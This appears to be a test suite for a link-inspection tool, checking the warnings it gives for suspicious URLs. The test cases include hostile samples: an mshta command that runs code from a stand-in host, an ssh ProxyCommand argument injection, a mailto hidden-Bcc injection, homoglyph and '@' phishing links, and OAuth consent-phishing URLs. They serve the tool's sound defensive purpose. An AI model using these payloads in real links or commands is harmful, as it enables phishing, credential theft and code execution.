"""Verdicts: headline, details, and route."""

import unicodedata

from tests.analysis.test_golden import links
from tests.for_each import for_each
from uriinspector.analysis.inspection import inspect
from uriinspector.analysis.safe_text import QUOTED, visible, visible_host
from uriinspector.analysis.verdict import CALM, CALM_WITHOUT_SITE, RELATIVE, Verdict

SAFE = "https://eur01.safelinks.protection.outlook.com/?url="


def verdict(text: str, base: str | None = None) -> Verdict:
    return inspect(text, base=base).verdict


@for_each(
    "text, detail", ("https://example.com/", CALM), ("mailto:a@b.test", CALM_WITHOUT_SITE),
    ("x", RELATIVE),
)  # fmt: skip
def test_verdict_without_findings_states_what_was_not_checked(text: str, detail: str) -> None:
    found = verdict(text)
    assert found.detail == " ".join((detail, *found.advice))
    assert found.severity is None


@for_each("text", "http://192.168.0.1/", "http://localhost/", "https://[::1]/a")
def test_address_that_is_not_public_is_not_called_a_site(text: str) -> None:
    assert CALM not in verdict(text).detail
    assert "did not visit the site" not in verdict(text).detail


def test_nothing_is_ever_called_safe() -> None:
    for _, (text, *_) in links():
        found = verdict(text)
        said = (
            f"{found.headline} {found.detail}".replace("Safe Links", "")
            .replace("safelinks", "")
            .lower()
        )
        assert "safe" not in said
        assert "harmless" not in said


def test_route_continues_through_services() -> None:
    text = f"{SAFE}https%3A%2F%2Fwww.google.com%2Furl%3Fq%3Dhttps%253A%252F%252Fevil.test"
    found = verdict(text).to_dict()
    assert [(hop["role"], hop["host"], hop["known"]) for hop in found["route"]] == [
        ("written", "eur01.safelinks.protection.outlook.com", True),
        ("forwarded", "www.google.com", True),
        ("forwarded", "evil.test", True),
    ]
    assert found["host"] == "eur01.safelinks.protection.outlook.com"
    assert found["final_host"] == "evil.test"
    assert found["scope"] == "text only"


def test_severity_is_that_of_the_worst_known_layer() -> None:
    assert verdict(f"{SAFE}https%3A%2F%2Fwww.paypal.com%40evil.test%2F").severity == "high"
    found = verdict("https://good.example/go?u=https://www.paypal.com%40evil.test/")
    assert found.severity == "high"
    carried = verdict("https://good.example/save?url=https://www.paypal.com%40evil.test/")
    assert carried.severity == "low"
    assert carried.detail.startswith(
        "Contains another link, to evil.test; what this site does with it is not known."
    )
    assert (
        found.headline == "Names good.example (reserved for examples); can send you on to evil.test"
    )
    assert "The site is evil.test, not www.paypal.com." in found.detail


def test_layers_over_the_limit_are_reported() -> None:
    deep = "https://evil.test/"
    for _ in range(12):
        deep = f"https://href.li/?{deep}"
    found = verdict(deep)
    assert found.headline.endswith("; the next link is nested too deeply to read")
    assert found.final_host is None


APP = "https://accounts.google.com/o/oauth2/v2/auth?client_id=a1&scope=email&redirect_uri="


@for_each(
    "text, headline, reason, advice",
    (
        "https://gov-qg.top/pay",
        "Goes to gov-qg.top",
        '"gov-" makes it read like a government site, but the site is gov-qg.top.',
        "Open it only if you know and use gov-qg.top.",
    ),
    (
        "https://paypal\u2024com.kxqv.top/login",
        "May go to kxqv.top, not paypal.com; browsers reject this link",
        'The site is kxqv.top; what looks like "." in "paypal\u2024com" is not that character.',
        "Do not open it.",
    ),
    (
        "https://good.example/login?redirect=hxxps://kxqv[.]top/a",
        "Names good.example (reserved for examples); can send you on to kxqv.top",
        "This site may send you on to another one: kxqv.top.",
        "Open it only if you know and use both sites.",
    ),
    (
        "http://192.168.\u0660.1/",
        "Browsers reject this link; 192.168.\u2039U+0660\u203a.1 is not a valid address",
        "Looks like a numeric address but is not a valid one; browsers reject it.",
        "This link does not work in browsers; ask the sender for one that does.",
    ),
    (
        "http://169.254.169.254/latest/",
        "Goes to 169.254.169.254",
        "Not a site: 169.254.169.254 gives out passwords and keys of rented (cloud) computers.",
        "Do not open it unless you manage that computer; pass on nothing it shows.",
    ),
    (
        f"{APP}https://kxqv.top/cb",
        "Goes to google.com; there, you can give kxqv.top access to your account",
        "If you agree on that page, kxqv.top can get access to your Google account.",
        "Open the link and agree only if you started this sign-in yourself.",
    ),
    (
        f"{APP}http://localhost:8080/cb",
        "Goes to google.com; there, you can give an app access to your account",
        "If you agree on that page, an app (a1) can get access to your Google account.",
        "Open the link and agree only if you started this sign-in yourself.",
    ),
    (
        "htp://example.com/",
        "Goes to example.com",
        'The link is misspelled. The verdict is for "http://example.com/", the corrected link.',
        "Open it only if you know and use this site.",
    ),
    (
        "https://evil.test/",
        "Names evil.test (reserved for tests)",
        'There is no public site "evil.test": such names are only for testing.',
        "Open it only if you or someone you know set this up.",
    ),
    (
        "https://[64:ff9b::a00:1]/",
        "Goes to [64:ff9b::a00:1]",
        "Contains another address, 10.0.0.1: a device on your own network.",
        "Do not open it.",
    ),
    (
        "#top",
        "Stays in the same document",
        CALM_WITHOUT_SITE,
        "It opens no site, so there is nothing to decide.",
    ),
    (
        "https://roblox.com.ge/games/2753915549/Blox-Fruits",
        "Goes to roblox.com.ge, not roblox.com",
        "Looks like the address of a page of roblox.com, but the site is roblox.com.ge.",
        "Do not open it; to visit roblox.com, type that address yourself.",
    ),
    (
        "http://[::1]:99999/",
        "Browsers reject this link; other programs may go to [::1], the device you open it on",
        'The number after ":" is too large; browsers reject the link.',
        "This link does not work in browsers; ask the sender for one that does.",
    ),
    (
        "http://[::1]/",
        "Goes to [::1] (the device you open it on)",
        "::1 is not a site on the internet but the computer or phone you open the link on.",
        "Open it only if you or someone you know set this up.",
    ),
    (
        "http://192.168.1.1/",
        "Goes to 192.168.1.1 (a device on the local network)",
        "192.168.1.1 is not a public site but a device on the local network, such as a router.",
        "Open it only if you or someone you know set this up.",
    ),
    (
        "https://kxqv.top%2F@evil.com/",
        "Goes to evil.com, not kxqv.top",
        'What is before "@" does not count. The site is evil.com, not kxqv.top.',
        "Do not open it.",
    ),
    (
        "https://kxqv.top%40evil.com/",
        "Browsers reject this link; other programs may go to kxqv.top%40evil.com",
        'The part that names the site has a "%" code for "@"; some programs may go to evil.com '
        "instead.",
        "Do not open it.",
    ),
    (
        "a: b",
        "Not a link",
        "No link was found in the text.",
        "It opens no site, so there is nothing to decide.",
    ),
    (
        "a:b",
        'Does not open a web page. It can start an app for "a" links',
        'An unusual kind of link ("a"): an app may open it, with unknown results.',
        "Open it only if you expected it.",
    ),
    (
        "magnet:?xt=urn:btih:c12fe1c06bba254a9dc9f519b335aa7c1367a88a",
        "In a torrent program, starts a download from other people's computers",
        "The link does not show what the files contain or who offers them. Nothing was opened.",
        "Open it only if you expected it.",
    ),
    (
        "https:/\\amazon.com@kxqv.top",
        "Goes to kxqv.top, not amazon.com",
        'What is before "@" does not count. The site is kxqv.top, not amazon.com.',
        "Do not open it.",
    ),
    (
        "https:/\\amazon.com\\@kxqv.top",
        "Browsers go to amazon.com; other programs may go to kxqv.top",
        "The slashes before the name are wrong. Browsers go to amazon.com, other programs may go "
        "to kxqv.top.",
        "Do not open it.",
    ),
    (
        "mailto:a@kxqv.top?subject=Hi%0D%0ABcc:b@evil.com",
        "Starts an email to a@kxqv.top",
        "Behind a hidden line break is another recipient, who can get the email unseen: b@evil.com",
        "Do not open it.",
    ),
    (
        "mailto:help@paypal-support.com",
        "Starts an email to help@paypal-support.com",
        "The email goes to paypal-support.com, a name like that of paypal.com; it may belong to "
        "someone else.",
        "Check who gets the email before you send it.",
    ),
    (
        "/\\kxqv.top",
        "On Windows, opens a shared folder on kxqv.top; in a web page, goes to kxqv.top",
        "On Windows, opening the link can send your user name and scrambled password to kxqv.top.",
        "Do not open it.",
    ),
    (
        "https://paypal.\u0441\u043e\u043c/",
        "Goes to paypal.xn--l1adi (paypal.\u0441\u043e\u043c), not paypal.com",
        'The ending "\u0441\u043e\u043c" only looks like ".com": its letters are from another '
        "alphabet (Cyrillic).",
        "Do not open it; to visit paypal.com, type that address yourself.",
    ),
    (
        "ssh://-oProxyCommand=x@kxqv.top/",
        'Can run a command, in a program for "ssh" links',
        '"-oProxyCommand=x" begins with "-": the program that opens the link can take it for a '
        "command and run it.",
        "Do not open it.",
    ),
    (
        "blob:https://www.kxqv.top/9115d58c",
        "Opens data that a page of kxqv.top created; works only in that browser",
        CALM_WITHOUT_SITE,
        "If someone sent you this link, ask for another one.",
    ),
    (
        "urn:isbn:9780141036144",
        "Only the name of a thing, such as a book (urn:isbn:9780141036144); opens no site",
        CALM_WITHOUT_SITE,
        "It opens no site, so there is nothing to decide.",
    ),
    (
        "zoommtg://kxqv.top/join?confno=1",
        'Does not open a web page. It can start an app for this: a meeting on Zoom, at kxqv.top',
        "Meetings of this kind are usually at zoom.us, but this link names kxqv.top.",
        "Do not open it unless you wanted exactly this.",
    ),
    (
        "market://details?id=kxqv",
        "Does not open a web page. It can start an app for this: an app on Google Play",
        "Opens an app store, which can install the app that the link names.",
        "Install the app only if you looked for it yourself.",
    ),
    (
        "webcal://kxqv.top/a.ics",
        "In a calendar app, adds a calendar from kxqv.top",
        "Adds a calendar that someone else fills, even with unwanted links.",
        "Add the calendar only if you know who runs it.",
    ),
    (
        "tel:+4930123456",
        "Starts a call to +4930123456",
        CALM_WITHOUT_SITE,
        "Call only if you know whose number this is.",
    ),
    (
        "http://192.168.1.1/a?token=Xk29fLmQ8sPz",
        "Goes to 192.168.1.1 (a device on the local network)",
        'May contain a secret ("token"), which anyone who sees the link could use.',
        "Do not pass the link on, and open it only if you expected it.",
    ),
    (
        "https:///kxqv.top",
        "Browsers go to kxqv.top; other programs may find no site",
        "The slashes before the name are wrong, which can get a link past security checks. "
        "Browsers go to kxqv.top.",
        "Do not open it.",
    ),
    (
        "https://kxqv.top/\\u202efdp",
        "Goes to kxqv.top",
        '"\\u202e" is how some programs write right-to-left override; browsers read its "\\" '
        'as "/".',
        "Open it only if you know and use this site.",
    ),
    (
        "https://kxqv.top/%u0041",
        "Goes to kxqv.top",
        '"%u0041" is an outdated code for "A" (latin capital letter a); browsers do not decode it.',
        "Open it only if you know and use this site.",
    ),
    (
        "https://login.microsoftonline.com/common/adminconsent?client_id=1&redirect_uri=https://x.top",
        "Goes to microsoftonline.com; there, an administrator can give x.top access to the whole "
        "organization",
        "If you agree on that page, x.top can get access to your whole organization at Microsoft.",
        "Open the link and agree only if you started this sign-in yourself.",
    ),
    (
        "https://www.xn--mnchen-3ya.de/",
        "Goes to m\u00fcnchen.de (computers write: xn--mnchen-3ya.de)",
        CALM,
        "Open it only if you know and use this site.",
    ),
    (
        "mshta https://kxqv.top/verify.hta",
        "Goes to kxqv.top",
        "Not just a link: a command that runs what this site sends, on your computer.",
        "Do not run it, and do not paste it anywhere.",
    ),
    (
        "https://xn--80ak6aa92e.com/",
        "Goes to xn--80ak6aa92e.com (\u0430\u0440\u0440\u04cf\u0435.com), which looks like "
        "apple.com",
        "Only looks like apple: its letters are from the Cyrillic alphabet, so it is another name.",
        "Do not open it.",
    ),
)  # fmt: skip
def test_headline_reason_and_advice_name_the_site_the_problem_and_the_remedy(
    text: str, headline: str, reason: str, advice: str
) -> None:
    found = verdict(text)
    assert (found.headline, found.why[0], found.advice) == (headline, reason, (advice,))


def test_address_without_digits_of_an_address_is_not_a_destination() -> None:
    found = verdict("rdp://08")
    assert found.headline == "Names 08, which is not a valid address"
    assert found.advice[1] == "Ask the sender for a link with the right address."
    assert verdict("rdp://8.8.8.8").headline == "Connects to 8.8.8.8 over rdp"


def test_sentence_about_what_was_not_checked_is_not_repeated() -> None:
    found = verdict("intent://scan/#Intent;scheme=zxing;package=com.evil.app;end")
    assert len(found.why) == len({*found.why})


@for_each("text", "https://xn--mnchen-3ya.de/", "https://www.xn--mnchen-3ya.de/")
def test_host_is_named_in_full_in_either_order_of_its_forms(text: str) -> None:
    found = verdict(text)
    assert found.whole_host == ("www.xn--mnchen-3ya.de" if "www." in text else "")


HIDDEN = [
    "\u202e", "\u200b", "\x00", "\x1b", "\n", "\ud800", "\u2028", "\u05d0", "\u00a0", "\ufeff",
]  # fmt: skip
PLACES = [
    "https://exa{}mple.com/", "foo://a{}b/", "f{}:x", "urn:x:{}", "mailto:{}@b", "tel:{}",
    "http://a{}.test@b.test/", "https://h.test/?url=http://x{}.test/",
    "https://h.test/?{}=http://x.test&redirect=http://{}y.test", "https://h.test/#a@b{}.test",
    f"{SAFE}http://x{{}}.test",
    "data:{}", "file://a{}b/c", "{}",
]  # fmt: skip


@for_each("place", *PLACES)
@for_each("char", *HIDDEN)
def test_hidden_characters_never_reach_a_sentence(char: str, place: str) -> None:
    inspection = inspect(place.replace("{}", char))
    said = [inspection.verdict.headline, inspection.verdict.detail]
    said += [each.message for each in inspection.findings]
    for sentence in said:
        assert char not in sentence
        assert not [each for each in sentence if unicodedata.category(each) in {"Cc", "Cf", "Cs"}]


def test_long_host_is_cut_at_its_beginning() -> None:
    headline = verdict("file://" + "a." * 600 + "evil.test/").headline
    assert headline.endswith(".evil.test")
    assert len(headline) < 300


def test_invisible_characters_are_shown_as_code_points() -> None:
    assert visible("a\u202eb") == "a\u2039U+202E\u203ab"
    assert visible("münchen") == "münchen"
    assert visible("x" * 200, QUOTED) == "x" * 119 + "\u2026"
    assert visible_host("y" * 10 + "x" * 10, 11) == "\u2026" + "x" * 10
